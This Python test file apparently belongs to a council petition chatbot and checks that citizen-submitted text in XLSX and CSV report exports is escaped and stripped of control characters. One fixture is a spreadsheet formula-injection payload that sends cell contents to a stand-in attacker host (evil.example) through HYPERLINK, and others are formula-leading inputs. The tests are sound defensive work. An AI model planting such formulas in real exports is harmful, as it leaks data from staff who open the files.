"""Report exports are opened in Excel by council staff: citizen text must stay inert text, and
no citizen text may make the export fail."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from aiohttp.test_utils import TestServer
from openpyxl import load_workbook

from tests.helpers import WebChat
from tests.petitions.conftest import file_petition
from tests.staff.helpers import make_account, signed_in

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm xem ảnh")'
# A control character and an escape sequence, as a citizen can send through the web chat.
NASTY = FORMULA + " đường liên thôn 3 sụt lún \x01\x1b[31m nặng lắm"


async def test_a_citizen_cannot_break_or_arm_the_monthly_export(
    runtime: Any, server: TestServer, chat_client: Any
) -> None:
    chat = WebChat(chat_client)
    code = await file_petition(chat, NASTY)
    office = await make_account(runtime, "office")
    agent = await signed_in(server, office.username)
    try:
        xlsx = await agent.get("/staff/reports.xlsx")
        assert xlsx.status == 200  # was 500: openpyxl refuses control characters
        data = await xlsx.read()
        book = load_workbook(io.BytesIO(data))
        listing = book["Danh sách kiến nghị"]
        row = next(r for r in listing.iter_rows(min_row=2) if r[1].value == code)
        cell = row[7]
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value.startswith(FORMULA) and "\x01" not in cell.value
        assert "sụt lún" in cell.value and "nặng lắm" in cell.value  # the words are all kept
        sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet2.xml").decode()
        assert "<f>" not in sheet_xml  # no formula anywhere

        exported = await agent.get("/staff/reports.csv")
        assert exported.status == 200
        rows = list(csv.reader(io.StringIO((await exported.text()).lstrip("\ufeff"))))
        content = next(r for r in rows if r[1] == code)[7]
        assert content.startswith("'=HYPERLINK(")
    finally:
        await agent.close()


def test_cells_that_could_start_a_formula_are_escaped_in_csv() -> None:
    from bot.staff.exports import _text_cell, xlsx_text

    for risky in ("=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1"):
        assert _text_cell(risky) == "'" + risky
    assert _text_cell("Đường thôn 3") == "Đường thôn 3"
    assert _text_cell(12) == 12
    assert xlsx_text("a\x00b\x08c\x0bd\ud800e\uffff\tf\ng") == "abcde\tf\ng"
